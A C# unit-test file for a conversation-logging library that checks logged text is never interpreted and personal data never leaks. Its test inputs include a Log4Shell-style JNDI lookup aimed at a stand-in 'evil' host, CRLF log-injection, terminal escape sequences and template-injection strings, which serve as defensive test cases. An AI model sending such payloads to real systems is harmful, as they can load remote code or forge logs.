using System.Globalization;
using ConvLog.Records;

namespace ConvLog.Tests.Faults;

/// <summary>Cases A21 to A25 of the fault list: logged content is neither altered nor interpreted, and does not leak.</summary>
public class OutputFaults
{
    [Theory]
    [InlineData("\r\nfake line")]
    [InlineData("\u001B]0;title\u0007\u001B[2J")]
    [InlineData("\u202E\u2066\u200B\uFEFF\u2028")]
    public void A21_control_and_format_characters_are_stored_verbatim(string text)
    {
        var entry = Logged.Entry(log => log.Info(text, (text, text), ("list", new[] { text })));

        entry.Content.Should().Be(text);
        using var json = Logged.Parse(entry);
        json.RootElement.GetProperty("list")[0].GetString().Should().Be(text);
        entry.ToJson().Should().NotContainAny("\r", "\n", "\u001B");
    }

    [Theory]
    [InlineData("${jndi:ldap://evil/x}")]
    [InlineData("{0} {1:000}")]
    [InlineData("{{ config }}")]
    [InlineData("%s %n %x")]
    [InlineData("{")]
    [InlineData("{user_phone}")]
    public void A22_messages_are_not_parsed_as_templates(string text)
    {
        var logger = new FakeLogger();
        using var conv = new Conversation(new ConversationInfo("c"), new FanOutSink([new LoggerSink(logger)]));
        conv.Log.Info(text, ("v", text), ("user_phone", "+1"));

        logger.Lines.Should().ContainSingle().Which.Message.Should().Be(text);
        conv.EntriesOutsideTurns[0].Content.Should().Be(text);
        conv.EntriesOutsideTurns[0].Fields[0].Value.Should().Be(text);
    }

    [Fact]
    public async Task A23_a_reader_without_the_permission_does_not_get_the_keys_of_a_personal_entry()
    {
        await using var session = new StoredSession();
        session.Open().Log.Info("m", ("jane_doe", 1), isPii: true);

        (await session.ReadAsync(StoredSession.Other)).Entries.Should().BeEmpty();
    }

    [Fact]
    public async Task A24_content_of_a_personal_entry_reaches_no_logger_after_any_failure()
    {
        var logger = new FakeLogger();
        var options = new ConversationOptions { Logger = logger, Limits = new LogLimits { EntriesPerScope = 1 } };
        await using var store =
            new StoreSink(new ThrowingStore(), new StoreSinkOptions { Logger = logger, RetryDelay = TimeSpan.Zero, DisposeTimeout = TimeSpan.Zero });
        var failing = new FailingSink(() => new InvalidOperationException("Jane Doe said so"));
        var conv = new Conversation(new ConversationInfo("c"), new FanOutSink(logger, failing, store, new LoggerSink(logger)), options);
        conv.Log.Error("Jane Doe", new InvalidOperationException("Jane Doe"), ("name", "Jane Doe"), isPii: true);
        conv.Log.Error("Jane Doe is over the limit", isPii: true);
        conv.Log.Error("failed", new InvalidOperationException("Jane Doe"), LogField.Pii("name", "Jane Doe"), ("v", new Awkward()));
        conv.LogApiResponse("GET", "https://x.example/?name=Jane%20Doe", 500, TimeSpan.Zero, errorBody: "Jane Doe");
        conv.SetState("name", "Jane Doe");
        await conv.DisposeAsync();
        conv.Log.Info("Jane Doe after the end", isPii: true);

        logger.Lines.Should().NotBeEmpty();
        foreach (var line in logger.Lines)
        {
            string.Concat(line.Message, string.Join(' ', line.StructuredState!.Select(item => $"{item.Key}={item.Value}")), line.Exception)
                .Should().NotContain("Jane");
        }
    }

    [Fact]
    public void A24_ToString_never_shows_personal_data()
    {
        var entry = Logged.Entry(log => log.Info("Jane", ("name", "Jane"), isPii: true));
        var visible = Logged.Entry(log => log.Info("m", LogField.Pii("name", "Jane"), ("who", new MaskedText("Jane", "J."))));

        $"{entry} {visible} {visible.Fields} {visible.Fields[0]} {visible.Fields[1]} {new MaskedText("Jane")}".Should().NotContain("Jane");
    }

    [Theory]
    [InlineData("tr-TR")]
    [InlineData("ar")]
    [InlineData("fa-IR")]
    public void A25_culture_and_calendar_change_no_output(string culture)
    {
        var before = Thread.CurrentThread.CurrentCulture;
        try
        {
            Thread.CurrentThread.CurrentCulture = CultureInfo.GetCultureInfo(culture);
            using var session = new Session();
            session.Log.Info("m", ("IS_PII", true), ("d", 1.5), ("n", -1), ("t", new DateTime(2025, 1, 2, 3, 4, 5, DateTimeKind.Utc)), ("i", new[] { -1.5m }));

            session.Last.IsPii.Should().BeTrue();
            session.Last.ToJson().Should().Be("""
                {"level":"info","content":"m","is_pii":true,"timestamp":"2025-01-01T10:00:00Z","logger":"conversation_logger","IS_PII":true,"d":1.5,"n":-1,"t":"2025-01-02T03:04:05Z","i":[-1.5]}
                """);
        }
        finally
        {
            Thread.CurrentThread.CurrentCulture = before;
        }
    }

    [Fact]
    public void A25_dates_at_the_ends_of_the_calendar_and_of_every_kind_are_written()
    {
        foreach (var kind in Enum.GetValues<DateTimeKind>())
        {
            Logged.Value(DateTime.SpecifyKind(DateTime.MinValue, kind)).Should().StartWith("\"0001-01-01T");
            Logged.Value(DateTime.SpecifyKind(DateTime.MaxValue, kind)).Should().StartWith("\"9999-12-31T");
        }
    }

    private sealed class Awkward
    {
        public string Name => throw new InvalidOperationException("Jane Doe");
    }

    private sealed class ThrowingStore : WriteOnlyStore
    {
        public override ValueTask WriteAsync(IReadOnlyList<StoreRecord> records, CancellationToken cancellationToken = default)
            => throw new InvalidOperationException("Jane Doe");
    }
}
